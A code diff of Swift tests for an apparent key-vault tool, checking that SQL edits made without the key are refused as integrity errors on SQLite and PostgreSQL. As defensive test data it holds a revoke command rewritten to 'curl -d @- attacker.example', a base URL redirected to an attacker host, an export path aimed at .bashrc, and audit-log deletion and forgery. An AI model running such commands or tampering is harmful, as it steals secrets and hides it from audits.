@@ -4,15 +4,17 @@ import Testing
 @testable import KeywardenCore
 import KeywardenCrypto
 
-/// Someone who can write `vault.db` but has neither keyfile nor passphrase
-/// edits rows with SQL (as `sqlite3` would); every such edit of a row that
-/// decides where a key goes or what runs is an integrity error naming it.
+/// Someone who can write `vault.db` (or the PostgreSQL database) but has
+/// neither keyfile nor passphrase edits rows with SQL (as `sqlite3` or `psql`
+/// would); every such edit of a row that decides where a key goes or what
+/// runs is an integrity error naming it. Each test runs on both backends.
 @Suite("Row MACs: metadata changed without the key is refused")
 struct RowAuthenticationTests {
-    /// Runs SQL on the file as an attacker would, then expects `body` to
-    /// throw an integrity error whose message contains `names`.
+    /// Runs SQL on the file (or the PostgreSQL database) as an attacker
+    /// would, then expects `body` to throw an integrity error whose message
+    /// contains `names`.
     func expectTampered(_ f: VaultFixture, _ sql: String, names: String, sourceLocation: SourceLocation = #_sourceLocation, _ body: () throws -> Void) throws {
-        try f.raw().write { db in try db.execute(sql: sql) }
+        try f.execute(sql)
         let error = #expect(throws: KeywardenError.self, sourceLocation: sourceLocation) { try body() }
         #expect(error?.kind == .integrity, sourceLocation: sourceLocation)
         #expect(error?.exitCode == 4, sourceLocation: sourceLocation)
@@ -20,79 +22,79 @@ struct RowAuthenticationTests {
         #expect(error?.message.contains("changed outside Keywarden") == true, sourceLocation: sourceLocation)
     }
 
-    @Test("a provider's base URL rewritten with SQL is refused before anything is sent")
-    func providerBaseURL() throws {
-        let f = try VaultFixture()
+    @Test("a provider's base URL rewritten with SQL is refused before anything is sent", arguments: TestBackend.available)
+    func providerBaseURL(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         _ = try f.vault.updateProvider("anthropic", baseURL: "https://gateway.example.com", env: nil)
         try expectTampered(f, "UPDATE providers SET base_url = 'https://attacker.example' WHERE name = 'anthropic'", names: "provider 'anthropic'") {
             _ = try f.vault.provider(named: "anthropic")
         }
     }
 
-    @Test("a rotation policy's revoke command rewritten with SQL is refused")
-    func policyRevokeCommand() throws {
-        let f = try VaultFixture()
+    @Test("a rotation policy's revoke command rewritten with SQL is refused", arguments: TestBackend.available)
+    func policyRevokeCommand(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(revokeCommand: .some("true")))
         try expectTampered(f, "UPDATE rotation_policies SET revoke_command = 'curl -d @- attacker.example'", names: "rotation policy of anthropic/prod") {
             _ = try f.vault.rotationPolicies()
         }
     }
 
-    @Test("a key's state changed with SQL is refused")
-    func keyState() throws {
-        let f = try VaultFixture()
+    @Test("a key's state changed with SQL is refused", arguments: TestBackend.available)
+    func keyState(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
         try expectTampered(f, "UPDATE keys SET state = 'revoked' WHERE id = '\(a.key.id)'", names: "key \(a.key.id) (anthropic/prod)") {
             _ = try f.vault.listKeys(KeyFilter())
         }
     }
 
-    @Test("a token's scopes and expiry changed with SQL are refused")
-    func tokenGrant() throws {
-        let f = try VaultFixture()
+    @Test("a token's scopes and expiry changed with SQL are refused", arguments: TestBackend.available)
+    func tokenGrant(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         let (token, value) = try f.vault.createToken(name: "ci", scopes: ["dev"], providers: ["anthropic"], ttl: DurationSpec(seconds: 3600))
         try expectTampered(f, "UPDATE agent_tokens SET scopes = '[\"dev\",\"prod\"]', expires_at = NULL", names: "token 'ci' (\(token.id))") {
             _ = try f.vault.authenticate(token: value)
         }
     }
 
-    @Test("an exported file's path changed with SQL is refused")
-    func exportedFile() throws {
-        let f = try VaultFixture()
+    @Test("an exported file's path changed with SQL is refused", arguments: TestBackend.available)
+    func exportedFile(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         try f.vault.rememberExport(path: f.directory.file("app.env"), scope: "prod", format: .dotenv, only: nil)
         try expectTampered(f, "UPDATE exported_files SET path = '/home/victim/.bashrc'", names: "the exported file /home/victim/.bashrc") {
             try f.vault.reexport(path: "/home/victim/.bashrc", reason: "test")
         }
     }
 
-    @Test("a config entry's secret flag cleared with SQL is refused")
-    func configSecretFlag() throws {
-        let f = try VaultFixture()
+    @Test("a config entry's secret flag cleared with SQL is refused", arguments: TestBackend.available)
+    func configSecretFlag(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         _ = try f.vault.setConfig(scope: "prod", name: "DATABASE_URL", value: secret("postgres://u:p@h/db"), secret: true)
         try expectTampered(f, "UPDATE config_entries SET secret = 0", names: "config entry DATABASE_URL in scope prod") {
             _ = try f.vault.listConfig(scope: "prod")
         }
     }
 
-    @Test("a scope's parent changed with SQL is refused")
-    func scopeParent() throws {
-        let f = try VaultFixture()
+    @Test("a scope's parent changed with SQL is refused", arguments: TestBackend.available)
+    func scopeParent(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         try expectTampered(f, "UPDATE scopes SET parent = 'prod' WHERE name = 'dev'", names: "scope 'dev'") {
             _ = try f.vault.listScopes()
         }
     }
 
-    @Test("a keyslot's KDF parameters changed with SQL fail the next unlock as integrity")
-    func keyslotParameters() throws {
-        let f = try VaultFixture(passphrase: "correct horse battery staple")
+    @Test("a keyslot's KDF parameters changed with SQL fail the next unlock as integrity", arguments: TestBackend.available)
+    func keyslotParameters(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend, passphrase: "correct horse battery staple")
         try expectTampered(f, "UPDATE keyslots SET kdf_ops = 1, kdf_mem = 8192 WHERE kind = 'passphrase'", names: "keyslot 'passphrase-1'") {
             _ = try f.reopen()
         }
     }
 
-    @Test("a MAC copied from another row does not match")
-    func copiedMAC() throws {
-        let f = try VaultFixture()
+    @Test("a MAC copied from another row does not match", arguments: TestBackend.available)
+    func copiedMAC(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
         let b = try f.vault.addKey(provider: "anthropic", scope: "dev", label: nil, env: nil, value: secret(TestKeys.anthropic2), activate: false, force: false)
         try expectTampered(f, "UPDATE keys SET state = 'active', mac = (SELECT mac FROM keys WHERE id = '\(a.key.id)') WHERE id = '\(b.key.id)'", names: "key \(b.key.id)") {
@@ -100,12 +102,12 @@ struct RowAuthenticationTests {
         }
     }
 
-    @Test("a row without a MAC is refused, and untouched rows still read")
-    func strippedMAC() throws {
-        let f = try VaultFixture()
+    @Test("a row without a MAC is refused, and untouched rows still read", arguments: TestBackend.available)
+    func strippedMAC(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
         _ = try f.vault.setConfig(scope: "prod", name: "BASE_URL", value: secret("https://x"), secret: false)
-        try f.raw().write { db in try db.execute(sql: "UPDATE keys SET mac = NULL") }
+        try f.execute("UPDATE keys SET mac = NULL")
         let error = #expect(throws: KeywardenError.self) { try f.vault.revealKey(id: a.key.id) }
         #expect(error?.message.contains("it has no MAC") == true)
         #expect(try f.vault.listConfig(scope: "prod").count == 1)
@@ -118,6 +120,7 @@ struct RowAuthenticationTests {
     /// (what v0.1 wrote), `audit_v2_from_seq` = head + 1, and no anchor.
     /// Uses the key, as v0.1 did when it wrote the events.
     func makeMigratedV01(_ f: VaultFixture) throws {
+        guard f.backend == .sqlite else { return try makeMigratedV01InPostgres(f) }
         try f.raw().write { db in
             try db.execute(sql: Self.strip + "DROP TRIGGER audit_events_seal_once; DROP TRIGGER audit_events_recorded_locked_once;")
             var previous = AuditTrail.genesisHash
@@ -137,6 +140,23 @@ struct RowAuthenticationTests {
         unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
     }
 
+    /// `makeMigratedV01` in a PostgreSQL vault: the events read through the
+    /// store, rehashed, and written back with the append-only triggers
+    /// disabled for the transaction (as the superuser who migrated could).
+    func makeMigratedV01InPostgres(_ f: VaultFixture) throws {
+        let records = try f.vault.store.read(f.vault.rows(.verify)) { tx in try tx.auditEvents(after: 0) }
+        var previous = AuditTrail.genesisHash
+        var sql = Self.strip
+        for record in records {
+            let hash = try f.vault.chainHash(previous: previous, record, v2From: .max)
+            sql += "UPDATE audit_events SET hash = '\(hash)' WHERE seq = \(record.seq);"
+            previous = hash
+        }
+        sql += "UPDATE vault SET audit_head_hash = '\(previous)', audit_v2_from_seq = audit_head_seq + 1"
+        try f.executePastAuditTriggers(sql)
+        unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
+    }
+
     func expectUpgradeRefused(_ f: VaultFixture, sourceLocation: SourceLocation = #_sourceLocation) {
         let error = #expect(throws: KeywardenError.self, sourceLocation: sourceLocation) { _ = try f.reopen() }
         #expect(error?.kind == .integrity, sourceLocation: sourceLocation)
@@ -144,9 +164,9 @@ struct RowAuthenticationTests {
         #expect(error?.message.contains("the vault header") == true, "\(error?.message ?? "")", sourceLocation: sourceLocation)
     }
 
-    @Test("the first unlock after migration computes every MAC once; stripping them again cannot re-trigger it")
-    func upgrade() throws {
-        let f = try VaultFixture()
+    @Test("the first unlock after migration computes every MAC once; stripping them again cannot re-trigger it", arguments: TestBackend.available)
+    func upgrade(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         let a = try f.vault.addKey(provider: "anthropic", scope: "prod", label: nil, env: nil, value: secret(TestKeys.anthropic), activate: false, force: false)
         _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(revokeCommand: .some("true")))
         try makeMigratedV01(f)
@@ -159,46 +179,43 @@ struct RowAuthenticationTests {
         #expect(try upgraded.verifyAudit().ok)
 
         // The attacker strips the MACs and sets the flag to launder a change.
-        try f.raw().write { db in try db.execute(sql: Self.strip + "UPDATE rotation_policies SET revoke_command = 'evil'") }
+        try f.execute(Self.strip + "UPDATE rotation_policies SET revoke_command = 'evil'")
         expectUpgradeRefused(f)
         // Also when the anchor is gone (another machine): the v2 events after the upgrade remain.
         unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
         expectUpgradeRefused(f)
         // Renaming the upgrade event (without its triggers) does not help.
-        try f.raw().write { db in
-            try db.execute(sql: "DROP TRIGGER audit_events_append_only_update; UPDATE audit_events SET action = 'key.list' WHERE action = 'vault.upgrade'")
-        }
+        try f.executePastAuditTriggers("UPDATE audit_events SET action = 'key.list' WHERE action = 'vault.upgrade'",
+                                       sqliteTriggers: ["audit_events_append_only_update"])
         expectUpgradeRefused(f)
         // Nor does moving where the v2 form starts past the end: v2 events do not verify as v1.
-        try f.raw().write { db in try db.execute(sql: "UPDATE vault SET audit_v2_from_seq = audit_head_seq + 1") }
+        try f.execute("UPDATE vault SET audit_v2_from_seq = audit_head_seq + 1")
         expectUpgradeRefused(f)
     }
 
-    @Test("on a vault created by this version, stripping the MACs and setting the flag is refused (exit 4), anchor or not")
-    func retriggerOnNewVault() throws {
-        let f = try VaultFixture()
+    @Test("on a vault created by this version, stripping the MACs and setting the flag is refused (exit 4), anchor or not", arguments: TestBackend.available)
+    func retriggerOnNewVault(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         _ = try f.vault.setRotationPolicy(provider: "anthropic", scope: "prod", RotationPolicyChange(revokeCommand: .some("true")))
-        #expect(try f.raw().read { db in try Bool.fetchOne(db, sql: "SELECT row_macs_pending FROM vault") } == false)
-        #expect(try f.raw().read { db in try Data.fetchOne(db, sql: "SELECT mac FROM vault") } != nil)
-        try f.raw().write { db in try db.execute(sql: Self.strip + "UPDATE rotation_policies SET revoke_command = 'evil'") }
+        #expect(try f.value("SELECT row_macs_pending FROM vault") == "0")
+        #expect(try f.value("SELECT mac FROM vault") != nil)
+        try f.execute(Self.strip + "UPDATE rotation_policies SET revoke_command = 'evil'")
         expectUpgradeRefused(f)
         unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
         expectUpgradeRefused(f)
         // Making it look like a migrated v0.1 vault: the head rewound to the
         // events before where v2 "starts", or every event deleted.
-        try f.raw().write { db in try db.execute(sql: "UPDATE vault SET audit_v2_from_seq = audit_head_seq + 1") }
+        try f.execute("UPDATE vault SET audit_v2_from_seq = audit_head_seq + 1")
         expectUpgradeRefused(f)
-        try f.raw().write { db in
-            try db.execute(sql: """
-                DROP TRIGGER audit_events_append_only_delete; DELETE FROM audit_events;
-                UPDATE vault SET audit_head_seq = 0, audit_head_hash = ?, audit_v2_from_seq = 1
-                """, arguments: [AuditTrail.genesisHash])
-        }
+        try f.executePastAuditTriggers("""
+            DELETE FROM audit_events;
+            UPDATE vault SET audit_head_seq = 0, audit_head_hash = '\(AuditTrail.genesisHash)', audit_v2_from_seq = 1
+            """, sqliteTriggers: ["audit_events_append_only_delete"])
         expectUpgradeRefused(f)
-        try f.raw().write { db in try db.execute(sql: "UPDATE vault SET audit_v2_from_seq = 2") }
+        try f.execute("UPDATE vault SET audit_v2_from_seq = 2")
         expectUpgradeRefused(f)
-        #expect(try f.raw().read { db in try String.fetchOne(db, sql: "SELECT revoke_command FROM rotation_policies") } == "evil")
-        #expect(try f.raw().read { db in try Data.fetchOne(db, sql: "SELECT mac FROM rotation_policies") } == nil)
+        #expect(try f.value("SELECT revoke_command FROM rotation_policies") == "evil")
+        #expect(try f.value("SELECT mac FROM rotation_policies") == nil)
     }
 }
 
@@ -208,17 +225,14 @@ struct AuditIntegrityTests {
         for i in 0..<n { try vault.recordAudit(AuditDraft(action: "test.event", outcome: "ok", detail: "event \(i)")) }
     }
 
-    @Test("deleting the newest events and rewinding the stored head is detected")
-    func rewoundHead() throws {
-        let f = try VaultFixture()
+    @Test("deleting the newest events and rewinding the stored head is detected", arguments: TestBackend.available)
+    func rewoundHead(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         try addEvents(f.vault, 5)
-        try f.raw().write { db in
-            try db.execute(sql: """
-                DROP TRIGGER audit_events_append_only_delete;
-                DELETE FROM audit_events WHERE seq > 3;
-                UPDATE vault SET audit_head_seq = 3, audit_head_hash = (SELECT hash FROM audit_events WHERE seq = 3);
-                """)
-        }
+        try f.executePastAuditTriggers("""
+            DELETE FROM audit_events WHERE seq > 3;
+            UPDATE vault SET audit_head_seq = 3, audit_head_hash = (SELECT hash FROM audit_events WHERE seq = 3)
+            """, sqliteTriggers: ["audit_events_append_only_delete"])
         let error = #expect(throws: KeywardenError.self) { _ = try f.vault.verifyAudit() }
         #expect(error?.kind == .integrity)
         #expect(error?.message.contains("the vault header was changed outside Keywarden") == true)
@@ -249,9 +263,9 @@ struct AuditIntegrityTests {
         #expect(try !restored.verifyAudit().ok)
     }
 
-    @Test("a missing anchor is recreated with a note, not a failure")
-    func missingAnchor() throws {
-        let f = try VaultFixture()
+    @Test("a missing anchor is recreated with a note, not a failure", arguments: TestBackend.available)
+    func missingAnchor(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         unlink(AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID))
         let first = try f.vault.verifyAudit()
         #expect(first.ok)
@@ -263,15 +277,13 @@ struct AuditIntegrityTests {
         #expect(SecureFiles.mode(of: AuditAnchor.path(directory: f.anchorDirectory, vaultID: f.vault.vaultID)).map { $0 & 0o777 } == 0o600)
     }
 
-    @Test("a forged event inserted as 'written while locked' stays marked unauthenticated after it is sealed")
-    func forgedUnsealedEvent() throws {
-        let f = try VaultFixture()
-        try f.raw().write { db in
-            try db.execute(sql: """
-                INSERT INTO audit_events (seq, at, actor_uid, actor_pid, actor, action, outcome, detail, recorded_locked)
-                SELECT MAX(seq) + 1, '2026-01-01T00:00:00.000Z', 1000, 1, 'keywarden key rm', 'key.remove', 'ok', 'forged', 0 FROM audit_events
-                """)
-        }
+    @Test("a forged event inserted as 'written while locked' stays marked unauthenticated after it is sealed", arguments: TestBackend.available)
+    func forgedUnsealedEvent(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
+        try f.execute("""
+            INSERT INTO audit_events (seq, at, actor_uid, actor_pid, actor, action, outcome, detail, recorded_locked)
+            SELECT MAX(seq) + 1, '2026-01-01T00:00:00.000Z', 1000, 1, 'keywarden key rm', 'key.remove', 'ok', 'forged', 0 FROM audit_events
+            """)
         try addEvents(f.vault, 1)
         let events = try f.vault.auditEvents(AuditFilter())
         let forged = try #require(events.first { $0.detail == "forged" })
@@ -285,15 +297,14 @@ struct AuditIntegrityTests {
         #expect(verified.unauthenticated == 1)
 
         // Removing the mark afterwards breaks the chain.
-        try f.raw().write { db in
-            try db.execute(sql: "DROP TRIGGER audit_events_recorded_locked_once; UPDATE audit_events SET recorded_locked = 0 WHERE detail = 'forged'")
-        }
+        try f.executePastAuditTriggers("UPDATE audit_events SET recorded_locked = 0 WHERE detail = 'forged'",
+                                       sqliteTriggers: ["audit_events_recorded_locked_once"])
         #expect(try !f.vault.verifyAudit().ok)
     }
 
-    @Test("a failed unlock is recorded as unauthenticated")
-    func failedUnlock() throws {
-        let f = try VaultFixture(passphrase: "right")
+    @Test("a failed unlock is recorded as unauthenticated", arguments: TestBackend.available)
+    func failedUnlock(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend, passphrase: "right")
         #expect(throws: KeywardenError.self) { _ = try f.reopen(.passphrase(secret("wrong"))) }
         try addEvents(f.vault, 1)
         let denied = try #require(try f.vault.auditEvents(AuditFilter()).first { $0.action == "vault.unlock" })
@@ -314,14 +325,13 @@ struct DisplayTextTests {
         #expect(DisplayText.sanitized("naïve 日本") == "naïve 日本")
     }
 
-    @Test("an audit event's detail and actor are stored without escapes")
-    func storedSanitized() throws {
-        let f = try VaultFixture()
+    @Test("an audit event's detail and actor are stored without escapes", arguments: TestBackend.available)
+    func storedSanitized(backend: TestBackend) throws {
+        let f = try VaultFixture(backend: backend)
         try f.vault.recordAudit(AuditDraft(action: "key.report", outcome: "invalid", detail: "401 \u{1B}[31mfake\u{1B}[0m \u{202E}txt.exe",
                                            actor: AuditActor(uid: 1, pid: 2, name: "agent \u{1B}]0;title\u{07}")))
-        let stored = try f.raw().read { db in try Row.fetchOne(db, sql: "SELECT detail, actor FROM audit_events ORDER BY seq DESC LIMIT 1")! }
-        let detail: String = stored["detail"]
-        let actor: String = stored["actor"]
+        let detail = try #require(try f.value("SELECT detail FROM audit_events ORDER BY seq DESC LIMIT 1"))
+        let actor = try #require(try f.value("SELECT actor FROM audit_events ORDER BY seq DESC LIMIT 1"))
         for text in [detail, actor] {
             #expect(!text.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E })
         }
